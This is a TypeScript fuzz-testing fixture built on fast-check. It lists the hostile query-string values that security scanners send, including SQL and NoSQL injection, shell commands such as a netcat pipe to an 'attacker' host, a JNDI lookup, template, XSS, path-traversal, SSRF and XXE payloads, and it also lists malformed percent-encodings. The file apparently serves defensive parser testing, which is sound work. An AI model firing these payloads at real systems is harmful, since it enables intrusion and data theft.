import fc from "fast-check";

/** What scanners send: SQL, NoSQL, shell, CRLF, JNDI, templates, paths, prototypes, formats. */
export const INJECTIONS = [
  "' OR '1'='1",
  "52.52'; DROP TABLE queries; --",
  "1 UNION SELECT password FROM pg_shadow",
  "1);SELECT pg_sleep(10)--",
  '{"$gt":""}',
  "[$ne]=1",
  "; cat /etc/passwd",
  "$(sleep 10)",
  "`id`",
  "| nc attacker 4444",
  "1\r\nX-Evil: 1",
  "1\r\n\r\nHTTP/1.1 200 OK",
  "\u0024{jndi:ldap://attacker/a}",
  "{{7*7}}",
  "<%= 7*7 %>",
  "#{7*7}",
  "../../../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "file:///etc/passwd",
  "http://169.254.169.254/latest/meta-data/",
  "__proto__",
  "constructor.prototype.polluted",
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "%s%s%s%n",
  "%00",
  "\0",
  "\u202e52.52",
  "=cmd|' /C calc'!A0",
  "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
  "*)(uid=*",
  "null",
  "undefined",
  "true",
  "[object Object]",
] as const;

/** Percent-encodings that are broken, over-long, or not UTF-8; all of them no number. */
export const BAD_ENCODINGS = [
  "%",
  "%2",
  "%zz",
  "%u0035",
  "%%35",
  "5%",
  "%c0%ae",
  "%e0%80%af",
  "%ff%fe",
  "%ed%a0%80",
  "%f4%90%80%80",
  "%80",
  "5%00",
  "%0a5",
  "5%0d%0a",
  "%255",
  "%e2%88%925",
] as const;

/** Any bytes of a query string's value: raw where a URL may carry them, else percent-encoded. */
export const anyValue: fc.Arbitrary<string> = fc.oneof(
  fc.string({ unit: "binary", maxLength: 40 }).map(encode),
  fc
    .uint8Array({ maxLength: 20 })
    .map((bytes) => [...bytes].map((byte) => `%${byte.toString(16).padStart(2, "0")}`).join("")),
  fc.constantFrom(...BAD_ENCODINGS),
  fc.constantFrom(...INJECTIONS).map(encode),
);

/** encodeURIComponent that also takes lone surrogates, as U+FFFD. */
export function encode(text: string): string {
  return encodeURIComponent(text.toWellFormed());
}
